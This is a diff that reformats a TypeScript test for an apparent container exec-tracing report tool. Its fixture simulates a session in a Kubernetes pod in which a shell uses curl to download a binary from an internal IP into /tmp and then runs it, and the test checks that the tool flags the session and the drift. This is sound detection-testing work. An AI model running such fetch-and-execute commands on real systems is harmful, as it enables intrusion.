@@ -19,23 +19,60 @@ afterAll(removeTempDirs);
 const dir = tempDir('trace-exec-sessions-report-');
 const at = (s: number) => T0 + s * 1000;
 const pod = { namespace: 'shop', pod: 'web-7d9c8b6f5-x2k4p', container: 'web', workload: 'deploy/web', image: 'nginx:1.27' };
-const line = (pid: number, s: number, args: string[], entry: 'init' | 'exec' | 'probe', leader: number, more: Record<string, unknown> = {}) =>
-  formatJsonLine(podEvent({ pid, timeMs: at(s), args, comm: args[0]!.split('/').pop()!, filename: args[0]!, sessionLeaderPid: leader, inInitTree: entry === 'init', tty: entry === 'exec' ? 'pts/0' : null, cwd: '/', ...more }, { ...pod, entry }));
+const line = (
+  pid: number,
+  s: number,
+  args: string[],
+  entry: 'init' | 'exec' | 'probe',
+  leader: number,
+  more: Record<string, unknown> = {},
+) =>
+  formatJsonLine(
+    podEvent(
+      {
+        pid,
+        timeMs: at(s),
+        args,
+        comm: args[0]!.split('/').pop()!,
+        filename: args[0]!,
+        sessionLeaderPid: leader,
+        inInitTree: entry === 'init',
+        tty: entry === 'exec' ? 'pts/0' : null,
+        cwd: '/',
+        ...more,
+      },
+      { ...pod, entry },
+    ),
+  );
 const exit = (pid: number, s: number, comm: string, exitCode: number) =>
-  JSON.stringify({ type: 'exit', time: new Date(at(s)).toISOString(), node: 'worker-1', namespace: 'shop', pod: pod.pod, container: 'web', containerId: CONTAINER_ID, pid, comm, exitCode, signal: null, durationMs: 5 });
+  JSON.stringify({
+    type: 'exit',
+    time: new Date(at(s)).toISOString(),
+    node: 'worker-1',
+    namespace: 'shop',
+    pod: pod.pod,
+    container: 'web',
+    containerId: CONTAINER_ID,
+    pid,
+    comm,
+    exitCode,
+    signal: null,
+    durationMs: 5,
+  });
 
-const RECORDING = [
-  line(10, 0, ['/bin/echo', 'tick'], 'init', 1),
-  line(50, 1, ['cat', '/tmp/healthy'], 'probe', 50),
-  exit(50, 1.01, 'cat', 0),
-  line(100, 2, ['sh'], 'exec', 100),
-  line(101, 3, ['/usr/bin/curl', '-so', '/tmp/m', 'http://10.0.0.9/m'], 'exec', 100),
-  line(51, 3.5, ['cat', '/tmp/healthy'], 'probe', 51),
-  line(102, 4, ['/tmp/m', '--quiet'], 'exec', 100, { upperLayer: true, cwd: '/tmp' }),
-  exit(102, 5, 'm', 1),
-  exit(100, 6, 'sh', 0),
-  line(11, 7, ['/bin/echo', 'tick'], 'init', 1),
-].join('\n') + '\n';
+const RECORDING =
+  [
+    line(10, 0, ['/bin/echo', 'tick'], 'init', 1),
+    line(50, 1, ['cat', '/tmp/healthy'], 'probe', 50),
+    exit(50, 1.01, 'cat', 0),
+    line(100, 2, ['sh'], 'exec', 100),
+    line(101, 3, ['/usr/bin/curl', '-so', '/tmp/m', 'http://10.0.0.9/m'], 'exec', 100),
+    line(51, 3.5, ['cat', '/tmp/healthy'], 'probe', 51),
+    line(102, 4, ['/tmp/m', '--quiet'], 'exec', 100, { upperLayer: true, cwd: '/tmp' }),
+    exit(102, 5, 'm', 1),
+    exit(100, 6, 'sh', 0),
+    line(11, 7, ['/bin/echo', 'tick'], 'init', 1),
+  ].join('\n') + '\n';
 const file = join(dir, 'execs.jsonl');
 writeFileSync(file, RECORDING);
 
@@ -75,7 +112,17 @@ describe('report with sessions and probes', () => {
     await report(['--timeline-to', tl]);
     const file = JSON.parse(readFileSync(tl, 'utf8')) as { traceEvents: { name: string; cat?: string; args?: Record<string, unknown> }[] };
     expect(traceEventProblems(file)).toEqual([]);
-    expect(file.traceEvents.filter((e) => e.cat === 'session,command').map((e) => e.name)).toEqual(['sh', '/usr/bin/curl -so /tmp/m http://10.0.0.9/m', '/tmp/m --quiet']);
-    expect(file.traceEvents.find((e) => e.cat === 'session')?.args).toMatchObject({ pid: 100, tty: 'pts/0', workload: 'deploy/web', drift: true, exit: { exitCode: 0, signal: null } });
+    expect(file.traceEvents.filter((e) => e.cat === 'session,command').map((e) => e.name)).toEqual([
+      'sh',
+      '/usr/bin/curl -so /tmp/m http://10.0.0.9/m',
+      '/tmp/m --quiet',
+    ]);
+    expect(file.traceEvents.find((e) => e.cat === 'session')?.args).toMatchObject({
+      pid: 100,
+      tty: 'pts/0',
+      workload: 'deploy/web',
+      drift: true,
+      exit: { exitCode: 0, signal: null },
+    });
   });
 });
